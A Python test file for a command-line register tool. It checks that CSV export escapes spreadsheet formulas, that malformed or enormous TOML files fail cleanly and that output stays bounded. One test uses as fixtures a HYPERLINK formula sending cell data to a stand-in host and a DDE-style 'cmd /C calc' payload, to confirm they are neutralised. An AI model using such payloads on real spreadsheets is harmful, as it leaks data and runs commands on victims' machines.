"""The command line under bad input: no traceback, bounded output, and the one CSV writer."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.conftest import FIXTURES, Tracker

SMALL = (FIXTURES / "register_small.toml").read_text(encoding="utf-8")


def test_list_csv_never_writes_a_formula_from_a_title_or_a_note(synced: Tracker) -> None:
    synced.ok("note", "senfoelgeklinikker", '=HYPERLINK("https://evil.example/?d="&A1,"klik")')
    synced.ok("note", "evaluering", "@SUM(1+1)*cmd|' /C calc'!A0")
    rows = list(csv.DictReader(io.StringIO(synced.ok("list", "--csv").output)))
    notes = {row["id"]: row["note"] for row in rows}
    assert notes["senfoelgeklinikker"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"klik")'
    assert notes["evaluering"].startswith("'@SUM")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_validate_on_a_register_that_once_crashed_the_parser_says_where_and_exits_1(tracker: Tracker,
                                                                                    tmp_path: Path) -> None:
    cases = {
        "nested": SMALL + "\nx = " + "[" * 3000 + "]" * 3000 + "\n",
        "lists": SMALL.replace('depends_on = ["senfoelgeklinikker"]', 'depends_on = [["a"]]'),
        "bom": "\ufeff" + SMALL,
    }
    for name, text in cases.items():
        path = tmp_path / f"{name}.toml"
        path.write_text(text, encoding="utf-8")
        result = tracker.fails("validate", str(path))
        assert f"{path}:" in result.output, name  # the file and the line
        for command in (("sync", "--register", str(path)), ("run", "--once", "--register", str(path))):
            assert "Traceback" not in tracker.fails(*command).output


def test_validate_prints_a_page_not_a_flood(tracker: Tracker, tmp_path: Path) -> None:
    path = tmp_path / "many.toml"
    path.write_text(SMALL + "".join(f"\nextra{index} = {index}" for index in range(20_000)), encoding="utf-8")
    result = tracker.fails("validate", str(path))
    assert len(result.output) < 40_000
    assert "… and 19900 more problems (unknown key …: 19900)." in result.output



def test_a_huge_key_or_value_is_shortened_in_each_problem(tracker: Tracker, tmp_path: Path) -> None:
    path = tmp_path / "huge.toml"
    huge = SMALL.replace('owner = "regionerne"\nrecipient = "ism"', 'owner = "' + "q" * 3_000_000 + '"\nrecipient = "ism"')
    huge += "".join(f"\n{'k' * 200_000}{index} = 1" for index in range(20))
    path.write_text(huge, encoding="utf-8")
    result = tracker.fails("validate", str(path))
    assert len(result.output) < 40_000 and "qqqq…'" in result.output
